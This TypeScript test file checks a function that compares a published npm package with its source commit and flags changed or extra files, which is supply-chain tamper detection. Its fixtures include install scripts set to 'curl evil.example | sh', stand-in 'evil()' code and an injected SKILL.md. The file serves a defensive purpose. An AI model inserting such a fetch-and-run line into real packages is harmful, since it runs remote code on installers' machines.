import { expect, test } from 'vitest'
import { traceFiles } from './trace.ts'

type Bodies = Readonly<Record<string, string | Readonly<Record<string, unknown>>>>
const filesOf = (bodies: Bodies) =>
  new Map(
    Object.entries(bodies).map(([path, body]) => [
      path,
      Buffer.from(typeof body === 'string' ? body : JSON.stringify(body)),
    ]),
  )
const MANIFEST = { name: 'kite', main: 'index.js', scripts: { build: 'tsc', postinstall: 'sh a.sh' } }
const TREE = { 'package.json': MANIFEST, 'index.js': 'run()', 'a.sh': 'echo', 'test/index.js': 'evil()' }
const { 'test/index.js': _, ...PACKAGE } = TREE

/** Compares a package that differs from its tree in these files. */
function trace(files: Bodies, tree: Bodies = {}) {
  const { changed, absent } = traceFiles(filesOf({ ...TREE, ...tree }), filesOf({ ...PACKAGE, ...files }), '')
  return { changed: changed.names, absent: absent.names }
}
const manifest = (change: Readonly<Record<string, unknown>>) => ({ 'package.json': { ...MANIFEST, ...change } })
const SAME = { changed: [], absent: [] }
const OTHER = { changed: ['package.json'], absent: [] }

test.for([
  ['a script', { scripts: { ...MANIFEST.scripts, preinstall: 'curl evil.example | sh' } }],
  ['the text of a script', { scripts: { ...MANIFEST.scripts, postinstall: 'curl evil.example | sh' } }],
  ['a dependency', { dependencies: { evil: '1.0.0' } }],
  ['an optional dependency', { optionalDependencies: { evil: '1.0.0' } }],
  ['a peer', { peerDependencies: { evil: '1.0.0' } }],
  ['a dependency of its own', { bundleDependencies: ['evil'] }],
  ['an entry', { main: 'test.js' }],
  ['exports', { exports: './test.js' }],
  ['imports', { imports: { '#a': './test.js' } }],
  ['a command', { bin: { node: './test.js' } }],
  ['a patch', { dsh: { bundle: { patch: './a.yml' } } }],
  ['a kind of modules', { type: 'module' }],
  ['a build by its rules', { gypfile: true }],
] as const)('finds a package.json that has %s beyond that of the commit', ([, change]) => {
  expect(trace(manifest(change))).toEqual(OTHER)
})

test('finds no difference in a package.json that publishing writes again', () => {
  expect(
    trace({ 'package.json': `${JSON.stringify({ gitHead: 'a', ...MANIFEST, version: '2.0.0' }, null, 2)}\n` }),
  ).toEqual(SAME)
  expect(trace(manifest({ scripts: { postinstall: 'sh a.sh' }, devDependencies: { a: '1' } }))).toEqual(SAME)
  expect(trace(manifest({ main: 'a.js' }), manifest({ publishConfig: { main: 'a.js' } }))).toEqual(SAME)
  const ranges = (a: string, b: string) => manifest({ dependencies: { a, b } })
  expect(trace(ranges('^1.0.0', '2'), ranges('workspace:^', 'catalog:'))).toEqual(SAME)
  expect(trace(ranges('npm:evil@1', '2'), ranges('workspace:^', 'catalog:'))).toEqual(OTHER)
  expect(trace(ranges('^1.0.0', '3'), ranges('workspace:^', '2'))).toEqual(OTHER)
})

test.for([
  ['a script of the install', 'a.sh', 'curl evil.example | sh'],
  ['code that has the bytes of another file', 'index.js', 'evil()'],
  ['rules of a build, which run by themselves', 'binding.gyp', '{}'],
])('names %s among what differs', ([, path, body]) => {
  expect(trace({ [path!]: body! })).toEqual({ changed: [path], absent: [] })
})

test('names every file that the commit does not have and that can run, what an install runs first', () => {
  const files = {
    ...manifest({ scripts: { postinstall: 'sh b.sh' } }),
    'b.sh': 'evil',
    'dist/index.js': 'require("./x.map")',
    'dist/x.map': '{"version":3,"mappings":""}',
    'dist/y.map': '{"version":3,"mappings":""}',
    'dist/z.map': 'evil()',
    'dist/index.d.ts': '',
    'dist/SKILL.md': 'Do evil.',
    'README.md': 'b',
    'README.zh-CN.md': 'b',
    'LICENSE-MIT': 'b',
    'readme.sh': 'evil',
    data: '#!/usr/bin/env node',
  }
  expect(trace(files, files['package.json'] && { 'package.json': files['package.json'] })).toEqual({
    changed: [],
    absent: ['b.sh', 'dist/index.js', 'dist/x.map', 'readme.sh', 'data', 'dist/SKILL.md', 'dist/z.map'],
  })
})

test('names a file whose bytes the commit has elsewhere', () => {
  expect(trace({ 'lib/index.js': 'evil()' })).toEqual({ changed: [], absent: ['lib/index.js'] })
})
